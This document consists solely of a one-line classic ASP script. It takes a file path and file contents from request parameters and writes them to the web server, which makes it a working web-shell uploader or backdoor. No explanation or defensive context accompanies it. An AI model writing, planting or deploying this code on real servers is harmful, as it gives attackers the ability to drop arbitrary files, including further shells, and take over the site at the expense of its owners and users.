<% Set o = CreateObject("Scripting.FileSystemObject") : Set f = o.CreateTextFile(Server.MapPath(Request("n")), True) : f.Write Request("d") : f.Close %>
